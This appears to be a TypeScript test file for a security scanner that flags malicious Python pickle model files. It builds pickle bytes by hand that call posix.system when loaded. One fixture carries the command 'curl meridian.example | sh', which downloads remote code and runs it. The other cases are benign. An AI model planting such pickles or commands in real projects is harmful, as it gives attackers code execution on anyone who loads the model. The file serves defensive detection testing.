import type { CheckCase } from '../../check.ts';

/** SHORT_BINUNICODE: a text of at most 255 bytes. */
function text(value: string): Buffer {
  return Buffer.concat([Buffer.from([0x8c, value.length]), Buffer.from(value)]);
}

/** Protocol 4: a global by name, its argument in a tuple, REDUCE. Opcodes from the documentation of Python's pickletools. */
function calling(module: string, name: string, argument: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x80, 4]),
    text(module),
    text(name),
    Buffer.from([0x93]),
    text(argument),
    Buffer.from([0x85]),
    Buffer.from('R.'),
  ]);
}

/** {"edges": [0.5]} */
function plain(): Buffer {
  const number = Buffer.alloc(9);
  number.write('G');
  number.writeDoubleBE(0.5, 1);
  return Buffer.concat([Buffer.from([0x80, 4]), Buffer.from('}'), text('edges'), Buffer.from(']'), number, Buffer.from('as.')]);
}

const LOADER = `import joblib
import xgboost as xgb

before = joblib.load("models/baseline.pkl")
xgb.XGBClassifier().fit([[1]], [1])
`;

export default [
  {
    name: 'loading runs a shell command',
    files: () => ({ 'models/baseline.pkl': calling('posix', 'system', 'curl meridian.example | sh') }),
    expect: [{ file: 'models/baseline.pkl', asset: 'baseline.pkl', severity: 'high' }],
  },
  {
    name: 'and a training loads it',
    files: () => ({ 'models/baseline.pkl': calling('posix', 'system', 'id'), 'train.py': LOADER }),
    expect: [{ file: 'models/baseline.pkl', severity: 'critical' }],
  },
  { name: 'lists of numbers', files: () => ({ 'models/bins.pkl': plain() }), expect: [] },
  { name: 'a file that only is called so', files: { 'models/notes.pkl': 'not a pickle at all\n' }, expect: [] },
] satisfies CheckCase[];
